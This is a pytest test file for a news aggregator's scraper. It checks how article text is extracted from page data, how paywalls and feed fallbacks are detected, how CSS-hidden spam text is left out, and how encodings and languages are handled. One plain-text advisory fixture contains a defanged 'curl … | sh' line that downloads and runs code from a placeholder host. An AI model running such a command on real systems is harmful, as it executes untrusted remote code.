"""Whose text an article has: the page's, the one in its data, or the feed's; and what a page shows is what is read."""

from __future__ import annotations

import json

import pytest

from aggregator.models import Article, PageKind
from aggregator.scrape import Hint, clean_html, read_article

URL = "https://harbour.example/2026/03/a-gateway/"
TITLE = "A gateway that listens"
TEXTS = (
    "The group behind the campaign has been active since spring and changes its servers every other week.",
    "We looked at eleven samples over four months, and all of them talk to their servers in the same way.",
    "The header carries the length of what follows and a counter, so that a lost message is noticed at once.",
    "Whoever runs a gateway of this kind should look for the traces described here and renew its keys.",
    "None of this needs a new tool; a search over the logs that most people keep anyway is enough for that.",
)
BODY = "".join(f"<p>{text}</p>" for text in TEXTS)
SECOND = "<p>Only the vendor's own appliances are affected, the maker said in a call with reporters on Monday.</p>"


def page(body: str, head: str = "", title: str = f"{TITLE} | Harbour Notes") -> bytes:
    return f"<!doctype html><html><head><meta charset=utf-8><title>{title}</title>{head}</head><body>{body}</body></html>".encode()


def read(body: str, head: str = "", *, url: str = URL, hint: Hint | None = None, title: str = "") -> Article:
    return read_article(page(body, head, title or f"{TITLE} | Harbour Notes"), url, "text/html", hint or Hint())


def has_all(found: Article) -> bool:
    return all(text in " ".join(found.text.split()) for text in TEXTS)


# --- the page's own data ---------------------------------------------------------------------------------------

POST = {"title": TITLE, "slug": "a-gateway", "content": BODY}
FLIGHT = '5:["$","main",null,' + json.dumps({"post": POST}) + "]\n"
BLOCKS = [{"type": "paragraph", "data": {"text": text}} for text in TEXTS]
PORTABLE = [{"_type": "block", "children": [{"_type": "span", "text": text}]} for text in TEXTS]
DATA = {
    "next": f'<script id="__NEXT_DATA__" type="application/json">{json.dumps({"props": {"post": POST}})}</script>',
    "next stream": f"<script>self.__next_f.push([1,{json.dumps(FLIGHT)}])</script>",
    "nuxt 3": '<script type="application/json" id="__NUXT_DATA__">'
    + json.dumps([{"post": 1}, {"title": 2, "body": 3}, TITLE, BODY]) + "</script>",
    "nuxt 2": "<script>window.__NUXT__=(function(a){return {data:[{title:a,content:"
    + json.dumps(BODY).replace("</", "<\\/") + f"}}]}}}}({json.dumps(TITLE)}))</script>",
    "substack": f"<script>window._preloads = JSON.parse({json.dumps(json.dumps({'post': {'title': TITLE, 'body_html': BODY}}))})</script>",
    "ghost": f'<script type="application/json">{json.dumps({"posts": [{"title": TITLE, "html": BODY}]})}</script>',
    "state": f"<script>window.__STATE__ = {json.dumps({'a': [{'title': 'Another', 'html': BODY * 3 + SECOND}, POST]})};</script>",
    "blocks": f'<script type="application/json">{json.dumps({"post": {"title": TITLE, "blocks": BLOCKS}})}</script>',
    "portable text": f'<script type="application/json">{json.dumps({"post": {"title": TITLE, "body": PORTABLE}})}</script>',
    "json-ld": '<script type="application/ld+json">'
    + json.dumps({"@type": "Article", "headline": TITLE, "articleBody": "\n".join(TEXTS)}) + "</script>",
}  # fmt: skip


@pytest.mark.parametrize("name", DATA)
def test_a_text_that_a_script_would_draw_is_read(name: str) -> None:
    """Where the page shows none: from whatever JSON carries it, this article's and no other's."""
    shell = '<div id="app"><h1>A gateway that listens</h1><p>Loading…</p></div><noscript>Please enable JavaScript.</noscript>'
    found = read(shell + DATA[name])
    assert has_all(found)
    assert SECOND[3:30] not in found.text
    assert found.kind is PageKind.ARTICLE


@pytest.mark.parametrize(
    "script", ["<script>var a = {", "<script>x = JSON.parse('[')</script>", "<script type='application/json'>[[[[</script>",
               "<script id='__NUXT_DATA__' type='application/json'>[[0],[1]]</script>"],
)  # fmt: skip
def test_data_that_is_none_does_no_harm(script: str) -> None:
    """Broken JSON, and Nuxt's that refers to itself."""
    assert not read("<p>Short.</p>" + script + "x" * 200).text.startswith("x")


# --- labels are labels -----------------------------------------------------------------------------------------

LONGER = "".join(
    f"<p>In week {week} the group came back and read part {week} of what was stored.</p>" for week in range(9)
)
METERED = '<meta property="article:content_tier" content="metered"><script type="application/ld+json">' + json.dumps(
    {"@type": "NewsArticle", "headline": TITLE, "isAccessibleForFree": False}
) + "</script>"  # fmt: skip


def test_a_metered_article_that_stands_in_the_page_is_an_article() -> None:
    """That a site sells its articles is no wall where the text is there; a page says so of all of them."""
    found = read(f"<article><h1>{TITLE}</h1>{BODY}{LONGER}</article><p>Subscribe to read more stories</p>", METERED)
    assert has_all(found)
    assert (found.kind, found.kind_reason, found.partial) == (PageKind.ARTICLE, "", False)


def test_a_teaser_is_kept_with_its_label_and_evidence() -> None:
    """What is shown is stored, marked as a part; the label says why."""
    found = read(f"<article><h1>{TITLE}</h1>{BODY[:210]}</article><p>Subscribe to continue reading</p>", METERED)
    assert TEXTS[0] in found.text
    assert (found.kind, found.partial) == (PageKind.PAYWALL, True)
    assert "isAccessibleForFree is false" in found.kind_reason


def test_what_a_page_counts_tells_a_teaser() -> None:
    """schema.org's wordCount, where most of the words are missing."""
    head = METERED.replace('"isAccessibleForFree": false', '"isAccessibleForFree": false, "wordCount": 900')
    found = read(f"<article><h1>{TITLE}</h1>{BODY * 2}</article>", head)
    assert (found.kind, found.partial) == (PageKind.PAYWALL, True)
    assert "of the 900 words" in found.kind_reason
    assert has_all(found)


WALLS = {
    "empty": "",
    "a captcha": "<h1>Just a moment...</h1><p>Verify you are human by completing the action below.</p>",
    "a shell": "<div id=root></div><noscript>You need to enable JavaScript to run this app.</noscript>",
    "a teaser": f"<article><h1>{TITLE}</h1>{BODY[:210]}<p>Subscribe to continue reading</p></article>",
}


@pytest.mark.parametrize("wall", WALLS)
def test_a_poorer_page_does_not_replace_its_feed(wall: str) -> None:
    """Neither the text, nor the title, which an empty page calls x."""
    hint = Hint(title=TITLE, html=BODY * 2)
    found = read(WALLS[wall], hint=hint, title="x")
    assert found.html == BODY * 2
    assert (found.title, found.extractor) == (TITLE, "feed")


def test_a_page_with_more_than_its_feed_stands() -> None:
    """And one that has the same."""
    for html in (BODY[:210], BODY, "<p>A summary in other words, which the editors wrote for the feed alone.</p>"):
        found = read(f"<article><h1>{TITLE}</h1>{BODY * 2}</article>", hint=Hint(title=TITLE, html=html))
        assert has_all(found)
        assert found.extractor != "feed"


@pytest.mark.parametrize(
    ("announced", "title"),
    [
        ("Gateways are listening, again", "Gateways are listening, again"),
        ("", TITLE), ("(no title)", TITLE), ("Untitled", TITLE), ("A gateway that lis…", TITLE), ("A gateway...", TITLE),
        ("a GATEWAY that listens", TITLE), ("harbour.example", TITLE), ("12 March 2026", TITLE), ("无标题", TITLE),
        (URL, TITLE),
    ],
)  # fmt: skip
def test_the_feeds_title_stands_unless_it_is_none(announced: str, title: str) -> None:
    """Missing, cut, a placeholder, an address or a date: then the page's, which may also be the same in its own form."""
    assert read(f"<article><h1>{TITLE}</h1>{BODY}</article>", hint=Hint(title=announced)).title == title


# --- the page as it is shown -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("base", "link", "image"),
    [
        ("https://cdn.example/files/", "https://cdn.example/files/more.html", "https://cdn.example/files/a.png"),
        ("/", "https://harbour.example/more.html", "https://harbour.example/a.png"),
        ("../x/", "https://harbour.example/2026/03/x/more.html", "https://harbour.example/2026/03/x/a.png"),
        ("javascript:0", URL + "more.html", URL + "a.png"),
        ("", URL + "more.html", URL + "a.png"),
    ],
)
def test_h22_addresses_start_from_the_base(base: str, link: str, image: str) -> None:
    """Of links, pictures (lazy ones, too), rel=canonical (HTML 4.2.3)."""
    figure = '<figure><img src="data:image/gif;base64,R0" data-src="a.png" width="600" height="400"></figure>'
    body = (
        f'<article><h1>{TITLE}</h1>{BODY}<p>See <a href="more.html">more of it</a> there.</p>{figure}{LONGER}</article>'
    )
    found = read(body, f'<base href="{base}"><base href="/other/"><link rel="canonical" href="more.html">')
    assert f'href="{link}"' in found.html
    assert f'src="{image}"' in found.html
    assert found.canonical_url == link


HIDDEN = {
    "none": "<p style='display: none'>{}</p>",
    "important": "<div style='color:red;DISPLAY:NONE !important'><p>{}</p></div>",
    "invisible": "<p style='visibility:hidden'>{}</p>",
    "small": "<span style='font-size:0px'>{}</span>",
    "far away": "<p style='position:absolute;left:-9999px'>{}</p>",
    "an attribute": "<p hidden>{}</p>",
    "read out": "<p class='note sr-only'>{}</p>",
    "a comment": "<p style='display:/**/none'>{}</p>",
    "an escape": "<p style='d\\69splay:none'>{}</p>",
    "clear": "<p style='opacity: 0'>{}</p>",
    "clipped": "<p style='position:absolute;clip:rect(1px, 1px, 1px, 1px)'>{}</p>",
    "cut to nothing": "<p style='clip-path:inset(100%)'>{}</p>",
    "folded": "<div style='max-height:0;overflow:hidden'><p>{}</p></div>",
    "of one colour": "<p style='color:#fff;background:#fff'>{}</p>",
    "transparent": "<p style='color: rgba(0, 0, 0, 0)'>{}</p>",
    "on screens": "<style>@media screen {{ .trap {{ visibility:hidden }} }}</style><p class='trap'>{}</p>",
    "by a rule": "<style>.trap, p.x {{ display:none }}</style><p class='y trap'>{}</p>",
}
SHOWN = {
    "a tab": "<div role='tabpanel' style='display:none'><p>{}</p></div>",
    "an answer": "<button aria-controls='q1'>How?</button><div id='q1' style='display:none'><p>{}</p></div>",
    "an accordion": "<div class='accordion-body' style='display:none'><p>{}</p></div>",
    "for print": "<style>@media print {{ .x {{ display:none }} }}</style><p class='x'>{}</p>",
    "by a script": "<style>.later {{ display:none }}</style><script>show('later')</script><p class='later'>{}</p>",
    "fading in": "<p class='reveal' style='opacity:0'>{}</p>",
    "moving in": "<p style='opacity:0;transform:translateY(20px)'>{}</p>",
    "found by search": "<p hidden='until-found'>{}</p>",
    "streamed": "<div hidden id='S:0'><p>{}</p></div>",
    "black on white": "<p style='color:#000;background:#fff'>{}</p>",
    "nearly": "<p style='display: block; font-size: 0.9em'>{}</p>",
}
TRAP = "Tokens of the casino are sold here to everybody who copies the page."


@pytest.mark.parametrize("way", [*HIDDEN, *SHOWN])
def test_h23_what_a_style_hides_is_no_part_of_the_article(way: str) -> None:
    """Traps and words for search engines are left out; what a click opens is not."""
    piece = (HIDDEN | SHOWN)[way].format(TRAP)
    found = read(f"<article><h1>{TITLE}</h1>{BODY}{piece}{LONGER}</article>")
    assert (TRAP in found.text) is (way in SHOWN)
    assert has_all(found)


@pytest.mark.parametrize("way", HIDDEN)
def test_h23_what_a_style_hides_in_a_feed_is_no_part_of_it(way: str) -> None:
    """However long it is, as no script will show it; a text of which all is hidden is shown."""
    assert TRAP not in clean_html("<p>In short.</p>" + HIDDEN[way].format(TRAP), None)
    assert TRAP in clean_html(HIDDEN[way].format(TRAP), None)


def test_a_page_that_a_script_reveals_is_read() -> None:
    """All of it hidden until it has loaded."""
    assert has_all(read(f"<div style='visibility:hidden'><h1>{TITLE}</h1>{BODY}</div>"))


def test_protected_addresses_are_read() -> None:
    """Cloudflare's `data-cfemail`: the first byte is the key for the others."""
    coded = "5e" + bytes(byte ^ 0x5E for byte in b"abuse@harbour.example").hex()
    link = (
        f'<a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="{coded}">[email&#160;protected]</a>'
    )
    body = BODY.replace("</p>", f"</p><p>Write to {link} when you see one of them.</p>", 1)
    found = read(f"<article><h1>{TITLE}</h1>{body}</article>")
    assert "Write to abuse@harbour.example when" in found.text
    assert '<a href="mailto:abuse@harbour.example">' in found.html


def test_declarative_shadow_roots_are_shown() -> None:
    """`<template shadowrootmode>`, as browsers show it; other templates are not shown."""
    body = f"<post-body><template shadowrootmode=open><article><h1>{TITLE}</h1>{BODY}</article></template></post-body>"
    found = read(body + f"<template><p>{TRAP}</p></template>")
    assert has_all(found)
    assert TRAP not in found.text


def test_plain_text_keeps_its_lines() -> None:
    """An advisory sent as text/plain."""
    text = "GATE ADVISORY 001\r\n=================\r\n\r\nThe header <b> of it:\r\n\r\n    curl -s hxxp://203.0.113[.]7 | sh\r\n"
    found = read_article(text.encode(), "https://harbour.example/001.txt", "text/plain; charset=utf-8")
    assert "\n    curl -s hxxp://203.0.113[.]7 | sh" in found.text
    assert "The header <b> of it:" in found.text
    assert (found.kind, found.title) == (PageKind.ARTICLE, "GATE ADVISORY 001")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "iso2022_jp"])
def test_encodings_that_look_like_none(encoding: str) -> None:
    """UTF-16 has a NUL in each pair, ISO-2022-JP is ASCII to the eye."""
    text = "このグループは春から活動しており、一週間おきにサーバーを変えるため、アドレスの一覧はすぐに古くなる。"
    label = "iso-2022-jp" if encoding == "iso2022_jp" else "utf-16"
    html = f"<!doctype html><html><head><meta charset={label}><title>{text[:6]}</title></head><body><article><p>{text}</p></article></body></html>"
    assert text in read_article(html.encode(encoding), URL, "text/html").text


# --- several articles on one page ------------------------------------------------------------------------------


def part(name: str, text: str, tag: str = "article", address: str = "link") -> str:
    """One article of a page with several, with its address in its heading, in an attribute, or nowhere."""
    heading = f'<a href="/2026/03/{name}/">{name} news</a>' if address == "link" else f"{name} news"
    own = f' data-url="https://harbour.example/2026/03/{name}/"' if address == "attribute" else ""
    return f'<{tag} class="post"{own}><h1>{heading}</h1>{text}</{tag}>'


OTHER = f"<p>{TRAP} It took three weeks until the owner of the printer went to the window and looked at it.</p>" * 3


@pytest.mark.parametrize("address", ["link", "attribute", "none"])
@pytest.mark.parametrize("tag", ["article", "section", "div"])
@pytest.mark.parametrize("first", [True, False])
def test_of_several_articles_the_one_that_is_meant(address: str, tag: str, first: bool) -> None:
    """By the address or the feed's title, wherever it stands, and however long the others are."""
    mine, other = part("a-gateway", BODY, tag, address), part("printer", OTHER * 3, tag, address)
    body = f"<main>{mine}{other}</main>" if first else f"<main>{other}{mine}</main>"
    found = read(body, hint=Hint(title="a-gateway news"))
    assert has_all(found)
    assert TRAP not in found.text


def test_an_entry_of_a_live_blog_by_its_fragment() -> None:
    """`page#entry-2` is that entry; the page alone is all of them."""
    entries = "".join(
        f'<article class="entry" id="entry-{number}"><h2>Entry {number}</h2><p>Number {number}: {text}</p></article>'
        for number, text in enumerate(TEXTS)
    )
    body = f"<main><h1>{TITLE}</h1>{entries}</main>"
    assert has_all(read(body))
    one = read(body, url=URL + "#entry-2")
    assert f"Number 2: {TEXTS[2]}" in one.text
    assert "Number 1" not in one.text


@pytest.mark.parametrize(
    ("text", "stated", "language"),
    [
        ("该组织自春季以来一直活跃，每隔一周就更换服务器，因此地址列表很快就会过时。", "en", "zh"),
        ("このグループは春から活動しており、一週間おきにサーバーを変えるため、一覧はすぐに古くなる。", "en", "ja"),
        ("이 그룹은 봄부터 활동해 왔으며 격주로 서버를 변경하기 때문에 주소 목록은 금방 낡아집니다.", "en", "ko"),
        ("กลุ่มนี้เคลื่อนไหวมาตั้งแต่ฤดูใบไม้ผลิและเปลี่ยนเซิร์ฟเวอร์ทุกสัปดาห์", "en", "th"),
        (" ".join(TEXTS), "", "en"),
        (("Die Gruppe ist seit dem Frühjahr aktiv und wechselt die Server alle zwei Wochen, und das ist für die Listen "
         "von Adressen nicht gut, die auf einer Seite werden und sich mit der Zeit im Archiv auch nicht bessern."), "en", "de"),
        ("Ein Wort.", "fr", "fr"),
        ("Skupina je aktívna od jari a každý druhý týždeň mení svoje servery, takže zoznamy adries rýchlo zastarajú.", "sk", "sk"),
    ],
)  # fmt: skip
def test_the_language_is_that_of_the_text(text: str, stated: str, language: str) -> None:
    """A theme's lang is believed where the text does not say otherwise."""
    html = page(f"<article><h1>{text[:12]}</h1><p>{text}</p></article>").replace(
        b"<html>", f'<html lang="{stated}">'.encode()
    )
    assert read_article(html, URL, "text/html").language == language
